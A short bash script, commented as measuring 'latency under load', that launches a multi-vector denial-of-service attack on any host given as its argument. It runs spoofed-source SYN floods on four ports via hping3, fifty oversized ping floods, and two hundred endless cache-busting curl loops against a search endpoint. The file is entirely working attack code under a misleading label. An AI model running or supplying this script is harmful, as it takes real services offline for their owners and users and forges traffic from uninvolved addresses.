#!/bin/bash
# latency under load
T=${1:?host}
for p in 80 443 53 22; do
  hping3 -q --flood --rand-source -S -p $p "$T" &
done
for _ in $(seq 50); do ping -f -s 65000 "$T" >/dev/null & done
for _ in $(seq 200); do
  ( while :; do curl -s -o /dev/null -A "$RANDOM" "http://$T/search?q=$RANDOM$RANDOM"; done ) &
done
wait
